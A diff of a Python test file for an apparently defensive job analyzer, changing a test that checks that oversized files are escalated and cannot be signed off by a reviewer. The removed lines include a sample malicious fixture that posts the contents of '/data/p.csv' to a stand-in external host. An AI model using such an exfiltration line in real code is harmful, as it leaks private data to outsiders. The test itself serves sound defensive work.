@@ -115,8 +115,9 @@ def test_store_copy_of_an_nvflare_job_scans_back_to_the_same_digest(tmp_path: Pa
 
 
 def test_a_file_too_large_to_queue_makes_the_item_unapprovable(tmp_path: Path) -> None:
-    """A malicious file padded past the size limit is escalated as too large and
-    never copied: a reviewer who cannot see it must not be able to sign it."""
+    """A file past the size limit is escalated as too large and never copied: a
+    reviewer who cannot see it must not be able to sign it. (Python padded past
+    it is still analysed: tests/test_hardening_sizes.py.)"""
     import subprocess
     import sys
 
@@ -127,18 +128,17 @@ def test_a_file_too_large_to_queue_makes_the_item_unapprovable(tmp_path: Path) -
     keys.generate(tmp_path / "alice")
     (tmp_path / "policy.yaml").write_text("trust: {reviewers: [alice.pub]}\nlimits: {max_file_bytes: 4000}\n")
     policy = load_policy(tmp_path / "policy.yaml")
-    padded = "import requests\nrequests.post('https://x.example', data=open('/data/p.csv').read())\n" + "#" * 5000
-    job = make_job(tmp_path / "job", {"train.py": padded, "conf/x.json": "{}"})
+    job = make_job(tmp_path / "job", {"train.py": "x = 1\n", "notes.txt": "#" * 5000, "conf/x.json": "{}"})
     content = collect(job, policy.limits)
     report = api.analyze(content, policy)
     assert report.decision is Decision.ESCALATE
-    assert [f.rule for f in report.findings if f.path == "train.py"] == ["unanalyzable.limit-size"]
+    assert [f.rule for f in report.findings if f.path == "notes.txt"] == ["unanalyzable.limit-size"]
     qid = review.enqueue(tmp_path / "q", content, report)
     r = subprocess.run([sys.executable, "-m", "analyzer.commands.cli", "review", "approve", qid, "--queue", str(tmp_path / "q"),
                         "--key", str(tmp_path / "alice.key"), "--allowlist", str(tmp_path / "allow.jsonl"),
                         "--policy", str(tmp_path / "policy.yaml")],
                        cwd=Path(__file__).resolve().parents[1], capture_output=True, text=True, timeout=120)
-    assert r.returncode == 1 and "were not copied to the queue" in r.stderr and "train.py" in r.stderr
+    assert r.returncode == 1 and "were not copied to the queue" in r.stderr and "notes.txt" in r.stderr
     assert not (tmp_path / "allow.jsonl").exists()
 
 
